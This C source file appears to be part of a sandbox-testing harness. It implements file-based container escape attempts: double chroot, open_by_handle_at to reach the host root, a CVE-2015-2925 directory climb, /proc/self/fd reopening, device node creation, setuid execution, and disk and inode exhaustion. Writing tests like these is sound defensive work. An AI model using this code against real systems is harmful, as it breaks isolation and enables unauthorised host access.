/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on files by path, by descriptor and by number. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

static int read_file(char **argument)
{
	char buffer[4096];
	int fd = open(argument[0], O_RDONLY);
	ssize_t length = fd < 0 ? -1 : read(fd, buffer, sizeof(buffer));

	if (length > 0)
		fwrite(buffer, 1, (size_t)length, stdout);
	putchar('\n');
	return length == 0 ? -ENODATA : outcome(length);
}

static int open_for_writing(char **argument)
{
	return outcome(open(argument[0], O_WRONLY));
}

/* THROUGH when any of the files could be opened or had something to read; they are named. */
static int open_any(char **paths)
{
	int rc = -ENOENT;

	for (; *paths; paths++) {
		if (open(*paths, O_WRONLY) < 0)
			continue;
		puts(*paths);
		rc = 0;
	}
	return rc;
}

static int read_any(char **paths)
{
	char byte;
	int rc = -ENOENT;

	for (; *paths; paths++) {
		int fd = open(*paths, O_RDONLY | O_NONBLOCK);

		if (fd < 0 || read(fd, &byte, 1) <= 0)
			continue;
		puts(*paths);
		rc = 0;
	}
	return rc;
}

static int write_file(char **argument)
{
	int fd = open(argument[0], O_WRONLY);

	return fd < 0 ? -errno : outcome(write(fd, argument[1], strlen(argument[1])));
}

static int create(char **argument)
{
	return outcome(open(argument[0], O_WRONLY | O_CREAT | O_EXCL, 0600));
}

static int list(char **argument)
{
	DIR *folder = opendir(argument[0]);

	if (!folder)
		return -errno;
	for (struct dirent *entry = readdir(folder); entry; entry = readdir(folder))
		puts(entry->d_name);
	return 0;
}

static int read_link(char **argument)
{
	char target[4096] = "";
	long rc = readlink(argument[0], target, sizeof(target) - 1);

	puts(target);
	return outcome(rc);
}

static int change_mode(char **argument)
{
	return outcome(chmod(argument[0], (mode_t)strtoul(argument[1], NULL, 8)));
}

static int change_owner(char **argument)
{
	return outcome(chown(argument[0], (uid_t)atoi(argument[1]), (gid_t)atoi(argument[1])));
}

static int make_node(char **argument)
{
	return outcome(mknod(argument[0], S_IFCHR | 0666, makedev(1, 3)));
}

static int make_block_node(char **argument)
{
	return outcome(mknod(argument[0], S_IFBLK | 0666, makedev(254, 0)));
}

/* A descriptor that was inherited for reading, opened once more for writing. */
static int reopen_for_writing(char **argument)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%s", argument[0]);
	return outcome(open(path, O_WRONLY));
}

static int reopen_for_reading(char **argument)
{
	char path[64], buffer[256];
	int fd;
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/self/fd/%s", argument[0]);
	fd = open(path, O_RDONLY);
	length = fd < 0 ? -1 : read(fd, buffer, sizeof(buffer));
	if (length > 0)
		fwrite(buffer, 1, (size_t)length, stdout);
	putchar('\n');
	return outcome(length);
}

/* An inherited directory is a road to everything below it, and above. */
static int walk_from_descriptor(char **argument)
{
	return outcome(openat(atoi(argument[0]), argument[1], O_RDONLY));
}

static int change_mode_from_descriptor(char **argument)
{
	return outcome(fchmodat(atoi(argument[0]), argument[1], 0600, 0));
}

static int enter_descriptor(char **argument)
{
	return outcome(fchdir(atoi(argument[0])));
}

/* The file handle of the host's root; the inode number of a file system's root is guessed easily. */
static int open_by_number(char **argument)
{
	struct { struct file_handle head; unsigned char bytes[64]; } handle = { .head.handle_bytes = 64 };
	int mount_id, fd = open(argument[0], O_RDONLY);

	if (fd < 0)
		return -errno;
	if (name_to_handle_at(AT_FDCWD, argument[1], &handle.head, &mount_id, 0) < 0)
		return -errno;
	return outcome(open_by_handle_at(fd, &handle.head, O_RDONLY));
}

/* Moves its own folder away while it stands in it, then climbs by "..". CVE-2015-2925 */
static int climb_from_moved(char **argument)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/deep", argument[0]);
	if (mkdir(path, 0700) < 0 || chdir(path) < 0 || rename(path, argument[1]) < 0)
		return -errno;
	for (int i = 0; i < 32; i++)
		if (chdir("..") < 0)
			return -errno;
	return outcome(open(argument[2], O_RDONLY));
}

/* The classic: a root inside a root, then out of both. */
static int double_chroot(char **argument)
{
	int old = open(".", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/inner", 0700);
	if (chroot("/tmp/inner") < 0 || fchdir(old) < 0)
		return -errno;
	for (int i = 0; i < 32; i++)
		if (chdir("..") < 0)
			return -errno;
	return outcome(open(argument[0], O_RDONLY));
}

/* Runs PROGRAM, which is meant to be set-user-id or to carry capabilities, and says who it became. */
static int run_privileged(char **argument)
{
	execl(argument[0], argument[0], "credentials", NULL);
	return -errno;
}

static int credentials(char **argument)
{
	FILE *status = fopen("/proc/self/status", "r");
	unsigned long long caps = 1;
	char line[256];

	(void)argument;
	while (status && fgets(line, sizeof(line), status))
		sscanf(line, "CapEff: %llx", &caps);
	printf("euid %d caps %llx\n", (int)geteuid(), caps);
	return geteuid() != getuid() || caps ? 0 : -EPERM;
}

/* Fills a folder until it is refused; THROUGH when LIMIT bytes went in. */
static int fill(char **argument)
{
	static char block[1 << 20];
	char path[4096];
	long long left = atoll(argument[1]);
	int fd;

	snprintf(path, sizeof(path), "%s/filler", argument[0]);
	fd = open(path, O_WRONLY | O_CREAT, 0600);
	if (fd < 0)
		return -errno;
	for (; left > 0; left -= (long long)sizeof(block))
		if (write(fd, block, sizeof(block)) < 0)
			return -errno;
	return 0;
}

static int fill_inodes(char **argument)
{
	char path[4096];

	for (long i = 0; i < atol(argument[1]); i++) {
		int fd;

		snprintf(path, sizeof(path), "%s/inode%ld", argument[0], i);
		fd = open(path, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			return -errno;
		close(fd);
	}
	return 0;
}

const struct attack file_attacks[] = {
	{ "read", read_file, 1 }, { "open-for-writing", open_for_writing, 1 }, { "write", write_file, 2 },
	{ "open-any", open_any, 1 }, { "read-any", read_any, 1 }, { "create", create, 1 },
	{ "list", list, 1 }, { "read-link", read_link, 1 }, { "change-mode", change_mode, 2 }, { "change-owner", change_owner, 2 },
	{ "make-node", make_node, 1 }, { "make-block-node", make_block_node, 1 }, { "reopen-for-writing", reopen_for_writing, 1 },
	{ "reopen-for-reading", reopen_for_reading, 1 }, { "walk-from-descriptor", walk_from_descriptor, 2 },
	{ "change-mode-from-descriptor", change_mode_from_descriptor, 2 }, { "enter-descriptor", enter_descriptor, 1 },
	{ "open-by-number", open_by_number, 2 }, { "climb-from-moved", climb_from_moved, 3 }, { "double-chroot", double_chroot, 1 },
	{ "run-privileged", run_privileged, 1 }, { "credentials", credentials, 0 }, { "fill", fill, 2 },
	{ "fill-inodes", fill_inodes, 2 },
	{ NULL, NULL, 0 },
};
